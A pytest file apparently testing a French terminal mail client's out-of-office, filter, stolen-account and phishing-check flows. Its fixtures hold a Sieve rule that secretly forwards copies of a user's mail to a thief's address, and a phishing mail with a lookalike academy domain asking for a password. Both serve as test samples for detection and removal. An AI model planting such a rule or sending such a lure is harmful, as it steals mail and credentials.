"""Absence, filters, a stolen account and a suspect mail, in a terminal of 80 by 24."""

import json
from pathlib import Path

import pytest

from acterm.net.sieve import Sieve
from acterm.secret import Secret
from acterm.server import Security, Server
from tests.journey.conftest import Person
from tests.secrets_left import assert_nothing_left
from tests.servers.dovecot import Dovecot
from tests.servers.waiting import until
from tests.terminal import DOWN, ENTER, ERASE_LINE, TAB, Terminal

F2 = "\x1bOQ"
THIEF = b'require ["copy"];\r\nredirect :copy "voleur@ailleurs.example";\r\n'
LURE = (
    b"From: Rectorat <support@gmail.com>\r\nTo: camille.lefevre@ac-amiens.fr\r\n"
    b"Subject: Quota depasse\r\nMessage-ID: <lure@x>\r\n\r\n"
    b"Confirmez votre mot de passe : http://ac-arniens.example/\r\n"
)


@pytest.fixture
def sieve(person: Person, dovecot: Dovecot, home: Path) -> Sieve:
    """The server's rules seen by another client; acterm is told where they are when it asks."""
    account = person.account
    _configure(person, home, f"password_command = {json.dumps(['echo', person.password])}\n")
    server = Server("localhost", dovecot.sieve, Security.STARTTLS)
    seen = Sieve.connect(server, ca_file=account.ca_file)
    seen.sign_in(account.login, Secret(person.password))
    return seen


def _configure(person: Person, home: Path, password: str) -> None:
    home.mkdir()
    account = person.account
    (home / "config.toml").write_text(
        f'[[accounts]]\naddress = "{account.address}"\nlogin = "{account.login}"\n'
        f'name = "{account.name}"\n'
        f'imap = {{ host = "localhost", port = {account.imap.port}, security = "tls" }}\n'
        f'smtp = {{ host = "localhost", port = {account.smtp.port}, security = "tls" }}\n'
        f"{password}"
    )


def _chooses(terminal: Terminal, line: str) -> None:
    """Bring the cursor to a line, and take it."""
    terminal.wait_for(line)
    for _turn in range(20):
        terminal.settle(0.1)
        if any(line in shown and "▌" in shown for shown in terminal.lines):
            terminal.press(ENTER)
            return
        terminal.press(DOWN)
    raise AssertionError(f"the cursor does not come to: {line}\n{terminal}")


def _types(terminal: Terminal, question: str, answer: str) -> None:
    terminal.wait_for(question)
    terminal.settle(0.1)
    for keys in (ERASE_LINE, answer, ENTER):
        terminal.press(keys)
        terminal.settle(0.1)


def _goes_on_with_the_text(terminal: Terminal) -> None:
    for keys in (TAB, ENTER):
        terminal.settle(0.1)
        terminal.press(keys)


def _opens(terminal: Terminal, flow: str) -> None:
    terminal.wait_for("connecté")
    terminal.press(F2)
    _chooses(terminal, flow)


def _arrives(dovecot: Dovecot, person: Person, sender: str) -> None:
    """The lure comes in by the académie's server, whose rules run."""
    dovecot.deliver(person.account.login, person.account.address, LURE, sender)


def _names_the_server(terminal: Terminal, dovecot: Dovecot) -> None:
    """Nobody listens at 4190 here: the flow says so, and takes another port of the mail server."""
    terminal.wait_for("offre pas ses règles")
    _chooses(terminal, "Mon académie donne un autre serveur")
    _types(terminal, "Quel serveur garde les règles ?", f"localhost:{dovecot.sieve}")


def test_an_absence_and_a_filter(person: Person, sieve: Sieve, dovecot: Dovecot) -> None:
    sieve.put("roundcube", b'require "fileinto"; # le mien\r\n')
    sieve.activate("roundcube")
    with person.opens_acterm() as terminal:
        _opens(terminal, "Absence")
        _names_the_server(terminal, dovecot)
        terminal.wait_for("Aucune réponse automatique")
        _chooses(terminal, "Préparer une réponse")
        _types(terminal, "Quel est votre premier jour", "aujourd'hui")
        _types(terminal, "Quel est votre dernier jour", "demain")
        terminal.wait_for("Que lira-t-on ?")
        terminal.wait_for("Votre message est bien arrivé")
        _goes_on_with_the_text(terminal)
        terminal.wait_for("Voici ce que vos correspondants recevront")
        _chooses(terminal, "activer")
        terminal.wait_for("La réponse automatique est activée")
        terminal.wait_for("roundcube")
        _arrives(dovecot, person, "parent@maison.example")
        until(lambda: any("parent@maison" in mail for mail in dovecot.sent()), "an answer leaves")

        _chooses(terminal, "C'est tout")
        _chooses(terminal, "Filtres")
        _chooses(terminal, "Ajouter une règle")
        _chooses(terminal, "L'objet")
        _types(terminal, "Quels mots dans l'objet ?", "quota")
        _chooses(terminal, "Le mettre à la corbeille")
        terminal.wait_for("Objet avec « quota » : à la corbeille")
        _chooses(terminal, "Garder cette règle")
        terminal.wait_for("1 filtre agit")
        _arrives(dovecot, person, "autre@maison.example")
        until(lambda: person.count("Trash") == 1, "the mail is in the bin")
        _chooses(terminal, "Annuler")
        terminal.wait_for("Aucun filtre")
        _arrives(dovecot, person, "encore@maison.example")
        until(lambda: person.count("INBOX") == 3, "it is in the inbox again")
    assert sieve.script("roundcube") == b'require "fileinto"; # le mien\r\n'
    assert {one.name: one.active for one in sieve.scripts()} == {"acterm": True, "roundcube": False}
    sieve.close()


def test_a_password_typed_for_the_rules_is_left_nowhere(
    person: Person, dovecot: Dovecot, home: Path
) -> None:
    _configure(person, home, "")
    with person.opens_acterm() as terminal:
        terminal.wait_for("Le mot de passe est nécessaire")
        terminal.press(":")
        terminal.wait_for("Toutes les commandes")
        terminal.press("absence")
        terminal.wait_for("▌ Absence")
        terminal.press(ENTER)
        _names_the_server(terminal, dovecot)
        _types(terminal, "Quel est votre mot de passe ?", person.password)
        terminal.wait_for("Aucune réponse automatique")
        assert_nothing_left(home, terminal, person.password)
        _chooses(terminal, "C'est tout")
        terminal.wait_for("connecté")
    assert_nothing_left(home, terminal, person.password)


def test_a_stolen_account(person: Person, sieve: Sieve, dovecot: Dovecot, tmp_path: Path) -> None:
    sieve.put("pirate", THIEF)
    sieve.activate("pirate")
    with person.opens_acterm() as terminal:
        _opens(terminal, "Compte piraté")
        _chooses(terminal, "ai changé")
        terminal.wait_for("vez-vous remarqué")
        terminal.press("Des mails que je n'ai pas écrits.")
        _goes_on_with_the_text(terminal)
        _names_the_server(terminal, dovecot)
        terminal.wait_for("envoient vos mails ailleurs")
        _chooses(terminal, "Regarder « pirate »")
        _chooses(terminal, "Supprimer ces règles")
        terminal.wait_for("aucune règle sur le serveur")
        assert sieve.scripts() == ()
        _chooses(terminal, "Annuler")
        terminal.wait_for("voleur@ailleurs.example")
        assert sieve.script("pirate") == THIEF
        _chooses(terminal, "Regarder « pirate »")
        _chooses(terminal, "Supprimer ces règles")
        for question in ("aucune règle", "mail envoyé", "connecté ?", "vos correspondants ?"):
            terminal.wait_for(question)
            _chooses(terminal, "Continuer")
        terminal.wait_for("03 22 82 38 23")
        _chooses(terminal, "Continuer")
        terminal.wait_for("323-1")
        _chooses(terminal, "Continuer")
        _chooses(terminal, "enregistrer dans un fichier")
        terminal.wait_for("Journal enregistré")
    (journal,) = tmp_path.glob("journal-compte-*.txt")
    text = journal.read_text()
    assert "voleur@ailleurs.example" in text
    assert "je n'ai pas écrits" in text
    assert person.password not in text
    sieve.close()


def test_a_suspect_mail_is_checked_and_passed_on(
    person: Person, sieve: Sieve, dovecot: Dovecot, tmp_path: Path
) -> None:
    sieve.close()
    _arrives(dovecot, person, "support@gmail.com")
    with person.opens_acterm() as terminal:
        terminal.wait_for("Quota depasse")
        _opens(terminal, "Hameçonnage")
        _chooses(terminal, "Vérifier un mail")
        _chooses(terminal, "Le choisir dans la boîte de réception")
        _chooses(terminal, "Quota depasse")
        terminal.wait_for("Très suspect")
        terminal.wait_for("support@gmail.com")
        _chooses(terminal, "Signaler")
        terminal.wait_for("Signal Spam")
        _chooses(terminal, "envoyer à l")
        terminal.wait_for("mail-suspect.eml")
        terminal.wait_for("Mail suspect à examiner")
    (copy,) = tmp_path.glob("mail-suspect.eml")
    assert b"ac-arniens.example" in copy.read_bytes()
